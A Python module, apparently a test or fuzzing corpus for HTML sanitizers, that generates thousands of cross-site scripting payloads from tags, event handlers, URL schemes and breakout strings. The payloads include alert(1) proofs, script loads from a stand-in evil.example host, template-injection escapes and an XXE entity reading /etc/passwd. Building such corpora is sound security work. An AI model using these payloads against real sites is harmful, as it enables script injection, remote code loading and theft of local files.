"""Published ways to run a script from text, multiplied: tag x event x spelling, address x scheme x encoding, and ways
out of attributes, comments, scripts, styles, templates. Generated, so that every product is tried."""

# ruff: noqa: E501 (lists of strings read better in long lines)

from itertools import cycle, product

TAGS = ("a", "abbr", "acronym", "address", "animate", "area", "article", "audio", "base", "bdo", "bgsound", "blink", "body",
        "button", "canvas", "center", "custom-tag", "details", "dialog", "div", "embed", "fieldset", "font", "form", "frame",
        "frameset", "head", "html", "iframe", "image", "img", "input", "isindex", "keygen", "label", "link", "listing",
        "map", "marquee", "math", "menu", "meta", "meter", "nobr", "noscript", "object", "option", "p", "picture",
        "plaintext", "portal", "search", "select", "set", "slot", "source", "style", "svg", "table", "td", "template",
        "textarea", "title", "track", "var", "video", "xml", "xmp")  # fmt: skip
EVENTS = ("onabort", "onafterprint", "onanimationend", "onanimationstart", "onauxclick", "onbeforecopy", "onbegin",
          "onblur", "oncanplay", "onclick", "oncontextmenu", "oncuechange", "ondblclick", "ondrag", "onend", "onerror",
          "onfocus", "onfocusin", "onhashchange", "oninput", "onkeydown", "onload", "onloadstart", "onmessage",
          "onmouseover", "onpageshow", "onpaste", "onpointerenter", "onpopstate", "onrepeat", "onresize", "onscroll",
          "onsearch", "onstart", "onsubmit", "ontoggle", "ontouchstart", "ontransitionend", "onunload", "onwheel")
SPELLINGS = (
    "<{tag} {event}=alert(1)>", "<{tag}/{event}=alert(1)//", '<{tag} {event}="alert`1`" autofocus tabindex=1>',
    "<{Tag} {EVENT}=confirm(1)></{tag}>", "<{tag} x='>' {event}=prompt(1)>", '"><{tag} {event}=alert(1) src=x>',
    "'><{tag} {event}=eval(name) style=animation-name:x>", "</title></script><{tag} {event}=alert(1)>",
    "<{tag}\t{event}\t=\talert(1)>", "<<{tag} {event}=alert(1)//<", "--><{tag} {event}=alert(1)><!--",
    "<{tag} {event}=&#97;lert(1) src=//evil.example/x>", "\uff1c{tag} {event}=alert(1)\uff1e",
    "&lt;{tag} {event}=alert(1)&gt;", "<{tag}\x0c{event}=alert(1)>", "]]><{tag} {event}=alert(1)>",
)  # fmt: skip
SCHEMES = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "&#106;avascript:alert(1)",
           "javascript&colon;alert(1)", "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
           "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "//evil.example/x",
           "http://evil.example/x", "\\\\evil.example\\x", "javascript://%0aalert(1)", "feed:javascript:alert(1)",
           "view-source:javascript:alert(1)", "blob:http://evil.example/1")
HOLDERS = ('<a href="{0}">x</a>', "<iframe src={0}>", "<object data='{0}'>", '<embed src="{0}">', '<form action="{0}"><button>',
           "<img src='{0}'>", '<svg><use href="{0}"/>', "<math xlink:href='{0}'>", '<link rel=stylesheet href="{0}">',
           '<meta http-equiv=refresh content="0;url={0}">', "<base href='{0}'>", '<video poster="{0}">', "[x]({0})", "{0}",
           "<style>@import '{0}';</style>", '<div style="background:url({0})">', "<button formaction='{0}'>x</button>",
           "<input type=image src={0}>", "<svg><image href='{0}'/>", '<isindex action="{0}">', '<body background="{0}">')
OUT = ("</script><script>alert(1)</script>", "<!--<script>alert(1)//-->", "{{{{constructor.constructor('alert(1)')()}}}}",
       "{{% for x in ().__class__.__base__.__subclasses__() %}}", "${{alert(1)}}", "<%= 7*7 %>", "';alert(1)//", '";alert(1)//',
       "`;alert(1)//", "\\';alert(1)//", "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>",
       "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\x20type=text/javascript>alert(1)</script>",
       "<svg><script>alert&#40;1&#41;</script>", "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
       "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<svg></p><style><a id='</style><img src=1 onerror=x>'>",
       "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<template><s><template>",
       "<img src=x:alert(alt) onerror=eval(src) alt=0>", "<x onclick=alert(1)>x", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
       "%3Cscript%3Ealert(1)%3C/script%3E", "\u202ealert(1)\u202c", "<a hx-get=//evil.example hx-trigger=load>",
       "<div hx-on::load=alert(1)>", "<b data-hx-get=//evil.example>", "<input name=tanda value=x>", "<p id=saring>", "]]>]]&gt;",
       "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>")


def every() -> list[str]:
    """All of them, each once, in a fixed order."""
    spelled = cycle(SPELLINGS)
    made = [next(spelled).format(tag=tag, Tag=tag.title(), event=event, EVENT=event.upper())
            for tag, event in product(TAGS, EVENTS)]
    held = [holder.format(scheme) for holder, scheme in product(HOLDERS, SCHEMES)]
    return list(dict.fromkeys([*OUT, *held, *made]))
